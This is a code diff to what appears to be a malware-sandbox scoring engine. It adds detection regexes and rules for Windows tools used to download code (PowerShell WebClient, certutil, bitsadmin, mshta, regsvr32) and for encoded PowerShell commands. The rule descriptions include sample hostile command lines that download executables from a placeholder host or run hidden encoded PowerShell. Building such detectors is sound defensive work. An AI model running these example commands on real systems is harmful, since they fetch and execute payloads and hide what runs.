@@ -768,6 +768,39 @@ def _script_host_downloads(ev: dict[str, Any], ctx: RuleContext, st: State) -> s
     return _fetched_code(ev, ctx)
 
 
+LOLBIN_DOWNLOAD_RE = re.compile(
+    r"\b(?:powershell|pwsh)(?:\.exe)?\b.*(?:downloadfile|downloadstring|downloaddata|invoke-webrequest|\biwr\b"
+    r"|invoke-restmethod|\birm\b|start-bitstransfer|net\.webclient|https?://)"
+    r"|\bcertutil(?:\.exe)?\b.*(?:-urlcache|-verifyctl).*https?://|\bbitsadmin(?:\.exe)?\b.*/transfer"
+    r"|\bmshta(?:\.exe)?\W+(?:\"?https?://|\"?javascript:|\"?vbscript:)"
+    r"|\bregsvr32(?:\.exe)?\b.*/i:\s*https?://|\brundll32(?:\.exe)?\b.*(?:javascript:|url\.dll.*https?://)"
+    r"|\bmsiexec(?:\.exe)?\b.*https?://|\b(?:curl|wget)(?:\.exe)?\s.*https?://[^ ]*\.(?:exe|dll|scr|ps1|vbs|hta|bat)\b",
+    re.I | re.S)
+ENCODED_PS_RE = re.compile(r"\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-(?:e|ec|enc|enco|encodedcommand)\s+[A-Za-z0-9+/=]{16,}",
+                           re.I | re.S)
+
+
+def _windows_cmdline(ev: dict[str, Any]) -> str | None:
+    """The command line of a program a Windows sample started (Wine's trace), or None."""
+    if ev.get("type") != "exec" or ev.get("src") != "wine" or ev.get("proc") in WIN_HELPERS:
+        return None
+    return _argv_text(ev)
+
+
+def _lolbin_download(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
+    text = _windows_cmdline(ev)
+    if text is not None and LOLBIN_DOWNLOAD_RE.search(text):
+        return text[:240]
+    return None
+
+
+def _encoded_powershell(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
+    text = _windows_cmdline(ev)
+    if text is not None and ENCODED_PS_RE.search(text):
+        return text[:240]
+    return None
+
+
 SELF_COPY_TOOLS = {"cp", "install", "dd", "rsync", "mv", "cat", "tee", "ln"}
 COPY_APIS = ("CopyFileA", "CopyFileW", "CopyFileExA", "CopyFileExW", "MoveFileA", "MoveFileW", "MoveFileExA",
              "MoveFileExW")
@@ -1291,7 +1324,7 @@ RULES: tuple[Rule, ...] = (
          "ServiceDll in the registry)", "sc create upd binPath= C:\\x.exe", _f(PERSIST)),
     Rule("ssh_authorized_keys", 9, _t("file"), _authorized_keys,
          "writes an SSH authorized_keys file (remote access backdoor)", "~/.ssh/authorized_keys", _f(PERSIST)),
-    Rule("write_outside_workdir", 4, _t("file"), _outside_workdir,
+    Rule("write_outside_workdir", 3, _t("file"), _outside_workdir,
          "creates, changes or deletes files outside its working directory, /tmp and ~/.cache (for Windows "
          "samples: outside %TEMP% and the browser caches)", "~/.local/bin/x, /etc/hosts"),
     Rule("user_file_modified", 4, _t("file"), _user_file_modified,
@@ -1324,6 +1357,13 @@ RULES: tuple[Rule, ...] = (
     Rule("script_host_downloads_executable", 8, _t("http", "ftp"), _script_host_downloads,
          "a Windows script or shortcut (JScript, VBScript, HTA, batch, LNK) downloads an executable or a script",
          "wscript invoice.js -> GET http://x/dogovr2208.exe", _f(DOWNLOAD)),
+    Rule("lolbin_download", 8, _t("exec"), _lolbin_download,
+         "starts a Windows tool to download code (PowerShell WebClient/Invoke-WebRequest, certutil -urlcache, "
+         "bitsadmin /transfer, mshta/regsvr32/msiexec/rundll32 with a URL)",
+         "powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://x/a.exe',...)", _f(DOWNLOAD)),
+    Rule("powershell_encoded_command", 6, _t("exec"), _encoded_powershell,
+         "starts PowerShell with an encoded command (-enc/-EncodedCommand: hides what it runs)",
+         "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A...", _f(EVASION)),
     Rule("self_copy", 6, _t("api", "exec", "file"), _self_copy,
          "copies itself (CopyFile/MoveFile of its own file; cp $0; reading its own file, then writing its name "
          "or into ~/.local/bin, ~/.config, a hidden folder, a system bin folder)", "CopyFile(x.exe, %APPDATA%\\x.exe)",
